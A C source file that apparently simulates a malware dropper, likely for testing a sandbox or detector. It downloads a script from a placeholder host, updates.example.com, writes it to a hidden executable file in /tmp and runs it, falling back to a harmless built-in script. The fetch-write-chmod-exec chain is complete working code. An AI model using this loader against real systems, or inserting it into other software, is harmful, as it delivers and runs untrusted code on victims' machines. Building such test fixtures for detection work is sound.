/* Stands in for a dropper: downloads http://updates.example.com/payload.sh,
 * writes the body to /tmp/.payload (mode 0755) and execs it. Without an
 * answer (no sinkhole) it writes "#!/bin/sh\nexit 0\n" instead, so the
 * write-chmod-exec chain happens either way. Exit 2 if /tmp/.payload cannot
 * be written, 3 if the exec fails. */
#include <stdlib.h>
#include <sys/stat.h>

#include "net.h"

#define HOST "updates.example.com"
#define PAYLOAD "/tmp/.payload"
#define MAX_RESPONSE 65536

static char response[MAX_RESPONSE + 1];

/* The body of a 200 response, or NULL. Sets *body_len. */
static const char* download(size_t* body_len) {
  struct in_addr addr;
  if (net_resolve(HOST, &addr) != 0) return NULL;
  int fd = net_connect(addr, 80);
  if (fd < 0) return NULL;
  const char* req = "GET /payload.sh HTTP/1.1\r\nHost: " HOST "\r\nUser-Agent: curl/8.0\r\n\r\n";
  if (net_send_all(fd, req, strlen(req)) != 0) {
    printf("http: send failed: %s\n", strerror(errno));
    close(fd);
    return NULL;
  }
  size_t len = 0;
  long long deadline = net_now_ms() + NET_TIMEOUT_MS;
  const char* body = NULL;
  long content_length = -1;
  while (len < MAX_RESPONSE) {
    long long left = deadline - net_now_ms();
    if (left <= 0) break;
    struct pollfd pfd = {fd, POLLIN, 0};
    int pr = poll(&pfd, 1, (int)left);
    if (pr < 0 && errno == EINTR) continue;
    if (pr <= 0) break;
    ssize_t n = recv(fd, response + len, MAX_RESPONSE - len, 0);
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) break;
    len += (size_t)n;
    response[len] = 0;
    if (body == NULL) {
      char* end = strstr(response, "\r\n\r\n");
      if (end != NULL) {
        body = end + 4;
        for (char* h = response; h < end; ++h) {
          if (strncasecmp(h, "\r\ncontent-length:", 17) == 0) {
            content_length = strtol(h + 17, NULL, 10);
            break;
          }
        }
      }
    }
    if (body != NULL && content_length >= 0 &&
        (long)(len - (size_t)(body - response)) >= content_length)
      break;
  }
  close(fd);
  response[len] = 0;
  if (body == NULL) {
    printf("http: no complete response (%zu bytes)\n", len);
    return NULL;
  }
  if (strncmp(response, "HTTP/1.", 7) != 0 || strncmp(response + 8, " 200", 4) != 0) {
    printf("http: not 200: %.*s\n", (int)strcspn(response, "\r\n"), response);
    return NULL;
  }
  *body_len = len - (size_t)(body - response);
  if (content_length >= 0 && (size_t)content_length < *body_len) *body_len = (size_t)content_length;
  printf("http: 200, %zu byte body\n", *body_len);
  return body;
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  size_t body_len = 0;
  const char* body = download(&body_len);
  if (body == NULL || body_len == 0) {
    body = "#!/bin/sh\nexit 0\n";
    body_len = strlen(body);
    printf("payload: download failed, using the built-in script\n");
  }
  int fd = open(PAYLOAD, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd < 0) {
    printf("payload: open " PAYLOAD " failed: %s\n", strerror(errno));
    return 2;
  }
  size_t off = 0;
  while (off < body_len) {
    ssize_t w = write(fd, body + off, body_len - off);
    if (w < 0 && errno == EINTR) continue;
    if (w <= 0) {
      printf("payload: write failed: %s\n", strerror(errno));
      close(fd);
      return 2;
    }
    off += (size_t)w;
  }
  close(fd);
  if (chmod(PAYLOAD, 0755) != 0) printf("payload: chmod failed: %s\n", strerror(errno));
  printf("payload: wrote %zu bytes to " PAYLOAD ", exec\n", body_len);
  fflush(stdout);
  char* argv[] = {(char*)PAYLOAD, NULL};
  extern char** environ;
  execve(PAYLOAD, argv, environ);
  printf("payload: exec failed: %s\n", strerror(errno));
  return 3;
}
